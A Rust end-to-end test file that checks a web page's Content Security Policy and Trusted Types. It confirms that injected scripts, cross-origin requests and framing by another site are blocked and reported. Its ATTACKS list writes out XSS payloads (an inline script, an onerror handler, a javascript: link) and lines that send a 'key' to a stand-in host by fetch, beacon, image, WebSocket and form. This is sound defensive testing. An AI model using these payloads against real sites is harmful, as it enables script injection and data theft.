//! Attacks by an injected script, another site or a frame around the page: the page's policy stops
//! each of them.

use std::{
    io::{Read, Write},
    net::TcpListener,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    thread,
};

use keyside_e2e::{
    browser::{Browser, Options},
    deployment::Server,
    gateway::Gateway,
    page, setting,
    waiting::Waiting,
};

/// Another site, which counts its visitors.
struct Elsewhere {
    port: u16,
    visits: Arc<AtomicUsize>,
}

impl Elsewhere {
    /// Answers every request with `html`.
    fn start(html: String) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let visits = Arc::new(AtomicUsize::new(0));
        let counted = Arc::clone(&visits);
        thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let mut request = [0; 4096];
                // Browsers open connections in advance, so only a request counts as a visit.
                if stream.read(&mut request).is_ok_and(|length| length > 0) {
                    counted.fetch_add(1, Ordering::SeqCst);
                    let _ = write!(
                        stream,
                        "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {}\r\n\
                         access-control-allow-origin: *\r\nconnection: close\r\n\r\n{html}",
                        html.len()
                    );
                }
            }
        });
        Self { port, visits }
    }
}

/// Each attack, with the directive that the browser reports for it unless Trusted Types stop it
/// first.
const ATTACKS: [(&str, &str, &str); 11] = [
    (
        "an inline script",
        "const s = document.createElement('script'); s.textContent = 'window.pwned = 1';
         document.body.append(s);",
        "script-src-elem",
    ),
    (
        "a script from elsewhere",
        "const s = document.createElement('script'); s.src = ELSEWHERE;
         document.body.append(s);",
        "script-src-elem",
    ),
    (
        "an event handler in markup",
        "const d = document.createElement('div');
         d.innerHTML = '<img src=icon onerror=\"window.pwned = 1\">'; document.body.append(d);",
        "script-src-attr",
    ),
    (
        "a javascript: link",
        "const a = document.createElement('a'); a.href = 'javascript:window.pwned = 1';
         document.body.append(a); a.click();",
        "script-src-elem",
    ),
    (
        "a worker of a text",
        "new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));",
        "worker-src",
    ),
    (
        "an image as a beacon",
        "new Image().src = ELSEWHERE + '?key';",
        "img-src",
    ),
    (
        "a call to elsewhere",
        "fetch(ELSEWHERE, { method: 'POST', body: 'key' }).catch(() => {});",
        "connect-src",
    ),
    (
        "a beacon",
        "navigator.sendBeacon(ELSEWHERE, 'key');",
        "connect-src",
    ),
    (
        "a socket",
        "try { new WebSocket(ELSEWHERE.replace('http', 'ws')); } catch {}",
        "connect-src",
    ),
    (
        "a form to elsewhere",
        "const f = document.createElement('form'); f.action = ELSEWHERE; f.method = 'post';
         document.body.append(f); f.submit();",
        "form-action",
    ),
    (
        "a frame inside",
        "const f = document.createElement('iframe'); f.src = ELSEWHERE;
         document.body.append(f);",
        "frame-src",
    ),
];

/// The attacks that turn text into code. Trusted Types stop these in the page as served.
const CODE_FROM_TEXT: &[&str] = &[
    "an inline script",
    "a script from elsewhere",
    "an event handler in markup",
    "a worker of a text",
];

/// The same attacks in Firefox.
const CODE_FROM_TEXT_IN_FIREFOX: &[&str] = &[
    "an inline script",
    "a script from elsewhere",
    "an event handler in markup",
    "a javascript: link",
    "a worker of a text",
];

#[tokio::test(flavor = "multi_thread")]
async fn attacks_by_an_injected_script_are_blocked_and_reported() {
    let gateway = Gateway::start();
    injected_scripts_are_blocked(&page::connected(&gateway).await, CODE_FROM_TEXT).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn firefox_blocks_and_reports_the_same() {
    let gateway = Gateway::start();
    let browser = page::connected_in_firefox(&gateway).await;
    injected_scripts_are_blocked(&browser, CODE_FROM_TEXT_IN_FIREFOX).await;
}

async fn injected_scripts_are_blocked(browser: &Browser, code_from_text: &[&str]) {
    page::generate(browser).await;
    attacks_are_blocked(browser, code_from_text).await;
    for text_as_code in [
        "page.eval('1')",
        "new page.Function('1')",
        "page.setTimeout('1')",
    ] {
        // Runs in a task of the page, and in Firefox through the page's own functions, because the
        // policy doesn't apply to the debugger's.
        let attack = format!(
            "const page = window.wrappedJSObject ?? window;
            document.addEventListener('securitypolicyviolation', (event) => {{
                done(event.effectiveDirective);
            }}, {{ once: true }});
            setTimeout(() => {{ {text_as_code}; }});"
        );
        let report = browser.run_until_done(&attack).await;
        assert_eq!(report, "require-trusted-types-for", "{text_as_code}");
    }
    // The page's Trusted Types policy can't be created again, and no other one can be added.
    for name in ["keyside-worker", "default", "mine"] {
        let made = format!(
            "try {{ trustedTypes.createPolicy('{name}', {{}}); return 'made'; }}
            catch {{ return 'refused'; }}"
        );
        assert_eq!(browser.run(&made).await, "refused", "{name}");
    }
    // The page still works.
    browser.find("#fingerprint").await;
    // The violations are expected here.
    browser.console().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_browser_without_trusted_types_blocks_the_same() {
    let folder = setting("KEYSIDE_DIST");
    let server = Server::without_trusted_types(&folder);
    let browser = Browser::start(Options::default()).await;
    browser
        .open(&format!("http://127.0.0.1:{}/tools/keys/", server.port))
        .await;
    page::generate(&browser).await;
    attacks_are_blocked(&browser, &[]).await;
    browser.find("#fingerprint").await;
    browser.console().await;
}

async fn attacks_are_blocked(browser: &Browser, code_from_text: &[&str]) {
    let elsewhere = Elsewhere::start("elsewhere".to_owned());
    let url = format!("http://127.0.0.1:{}/", elsewhere.port);
    for (name, attack, directive) in ATTACKS {
        let attack = attack.replace("ELSEWHERE", &format!("{url:?}"));
        // The report is left on the page and asked for by later commands: a blocked submission ends a
        // navigation, and ChromeDriver once answered null to the command under way at that moment.
        let attack = format!(
            "const noted = document.documentElement.dataset;
            delete noted.violation;
            document.addEventListener('securitypolicyviolation', (event) => {{
                noted.violation = event.effectiveDirective;
            }}, {{ once: true }});
            try {{ {attack} }} catch {{ /* Some attacks throw as well. */ }}"
        );
        browser.run(&attack).await;
        let mut waiting = Waiting::begin();
        let report = loop {
            let noted = "return document.documentElement.dataset.violation ?? null";
            if let Some(report) = browser.run(noted).await.as_str() {
                break report.to_owned();
            }
            waiting.again(|| format!("no report of {name}")).await;
        };
        let expected = match code_from_text.contains(&name) {
            true => "require-trusted-types-for",
            false => directive,
        };
        assert_eq!(report, expected, "{name}");
    }
    let pwned = browser.run("return window.pwned ?? null").await;
    assert_eq!(pwned, serde_json::Value::Null);
    assert_eq!(elsewhere.visits.load(Ordering::SeqCst), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn no_other_site_can_put_the_page_in_a_frame() {
    let gateway = Gateway::start();
    let around = Elsewhere::start(format!(
        "<!doctype html><iframe id=inside src={:?}></iframe>",
        gateway.url()
    ));
    let browser = Browser::start(Options::default()).await;
    browser
        .open(&format!("http://127.0.0.1:{}/", around.port))
        .await;
    let frame = browser.find("#inside").await;
    tokio::time::sleep(std::time::Duration::from_secs(2)).await;
    frame.enter_frame().await.unwrap();
    assert!(!browser.has("#page").await);
    assert!(!browser.has("#token").await);
    browser.console().await;
    assert!(around.visits.load(Ordering::SeqCst) > 0);
}
